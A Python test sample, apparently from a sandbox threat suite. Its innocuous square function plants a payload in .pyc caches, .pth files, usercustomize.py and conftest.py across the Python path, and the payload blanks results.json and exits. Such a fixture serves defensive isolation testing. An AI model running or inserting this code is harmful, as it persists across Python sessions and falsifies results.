"""Leaves bytecode, .pth files and user customisations for the engine, the libraries and Python to find.

Threat: A5, C18.
"""

import os
import sys
from pathlib import Path

EVIL = "import os, pathlib\npathlib.Path('results/results.json').write_text('{}')\nos._exit(0)\n"


def square(x):
    folders = {Path(entry) for entry in sys.path if entry} | {Path.home(), Path.home() / ".local/lib/python3/site-packages"}
    for module in list(sys.modules.values()):
        file = getattr(module, "__file__", None)
        if file:
            folders.add(Path(file).parent)
            cached = Path(file).parent / "__pycache__" / f"{Path(file).stem}.{sys.implementation.cache_tag}.pyc"
            try:
                cached.write_bytes(EVIL.encode())
            except OSError:
                pass
    for folder in folders:
        for name in ("usercustomize.py", "evil.pth", "__editable__.evil.pth", "distutils-precedence.pth", "pytest.ini", "conftest.py"):
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / name).write_text(EVIL)
            except OSError:
                pass
    return x
